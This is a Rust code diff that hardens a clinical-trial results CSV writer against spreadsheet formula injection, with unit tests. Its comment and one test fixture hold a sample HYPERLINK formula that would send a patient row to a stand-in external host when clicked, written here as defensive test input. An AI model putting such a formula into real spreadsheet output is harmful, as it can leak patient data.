@@ -5,6 +5,7 @@
 use crate::{Cohort, RowResult};
 use dmscore_core::format::{rounded_percent, value};
 use dmscore_core::{doi, outcomes, summarise, tis, Verdict};
+use std::borrow::Cow;
 use std::io::Write;
 
 /// The results CSV's header. Columns added later go at the end, so a
@@ -99,7 +100,8 @@ impl Cohort {
     }
 }
 
-/// Writes the header and `lines` as CSV.
+/// Writes the header and `lines` as CSV, each cell one a spreadsheet
+/// shows rather than runs ([`shown_not_run`]).
 pub fn write_results(
     lines: impl IntoIterator<Item = ResultLine>,
     output: impl Write,
@@ -108,9 +110,42 @@ pub fn write_results(
     let failed = |e: csv::Error| format!("output: {e}");
     writer.write_record(RESULT_COLUMNS).map_err(failed)?;
     for line in lines {
-        writer.write_record(&line.cells).map_err(failed)?;
+        for cell in &line.cells {
+            writer
+                .write_field(shown_not_run(cell).as_bytes())
+                .map_err(failed)?;
+        }
+        // No more fields: this ends the record.
+        writer.write_record(None::<&[u8]>).map_err(failed)?;
     }
     writer.flush().map_err(|e| format!("output: {e}"))
+}
+
+/// A cell that opens in a spreadsheet as the text it holds. Excel and
+/// LibreOffice run a cell starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return as a formula, so a patient id from a hostile or
+/// mistyped file (`=HYPERLINK("https://…?"&B2, "open")`) could show
+/// another value or send the row out of the hospital when clicked
+/// (hazard H22). Such a cell is written after an apostrophe, a
+/// spreadsheet's mark for text; a number (`-150`, a percentage that
+/// worsened) is written as it is.
+fn shown_not_run(cell: &str) -> Cow<'_, str> {
+    let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if runs && !is_plain_number(cell) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// A sign, digits and at most one decimal point between digits: what the
+/// results' own numbers look like.
+fn is_plain_number(cell: &str) -> bool {
+    let unsigned = cell.strip_prefix(['+', '-']).unwrap_or(cell);
+    let (whole, fraction) = unsigned.split_once('.').unwrap_or((unsigned, "0"));
+    [whole, fraction]
+        .iter()
+        .all(|digits| !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()))
 }
 
 #[cfg(test)]
@@ -205,6 +240,42 @@ mod tests {
             "patient_id,population,mmt-max,mmt-baseline,mmt-week24,pga-baseline,pga-week24,ptga-baseline,ptga-week24,haq-baseline,haq-week24,extra-baseline,extra-week24,enzyme-name,enzyme-uln,enzyme-baseline,enzyme-week24\nP1,adult,150,110,135,6,3,7,5,1.5,1.125,4,2,aldolase,8,24,12\n",
         );
         assert_eq!(rows[0][10..15], ["67.5", "67.5", "67.5", "major", "met"]);
+    }
+
+    #[test]
+    fn an_id_a_spreadsheet_would_run_is_written_as_text() {
+        let rows = results(concat!(
+            "patient_id,ck-uln,ck-baseline,ck-week24\n",
+            "\"=HYPERLINK(\"\"https://example.org/?\"\"&B2,\"\"open\"\")\",200,1200,500\n",
+            "@SUM(1),200,1200,500\n+1-2,200,1200,500\n-3+4,200,1200,500\n",
+            "\"\t=1\",200,1200,500\n-12,200,1200,500\n+7.5,200,1200,500\nP1,200,500,1200\n",
+        ));
+        let ids: Vec<&str> = rows.iter().map(|row| row[0].as_str()).collect();
+        assert_eq!(
+            ids,
+            [
+                "'=HYPERLINK(\"https://example.org/?\"&B2,\"open\")",
+                "'@SUM(1)",
+                "'+1-2",
+                "'-3+4",
+                "'\t=1",
+                "-12",
+                "+7.5",
+                "P1",
+            ]
+        );
+        // A percentage that worsened stays a number.
+        assert_eq!(rows[7][3], "-140");
+    }
+
+    #[test]
+    fn only_signed_digits_with_one_point_are_plain_numbers() {
+        for number in ["0", "-150", "+7.5", "12.25"] {
+            assert!(is_plain_number(number), "{number}");
+        }
+        for text in ["", "-", "-.5", "1.", "1.2.3", "-1+2", "1e3", "--1", "-inf"] {
+            assert!(!is_plain_number(text), "{text}");
+        }
     }
 
     #[test]
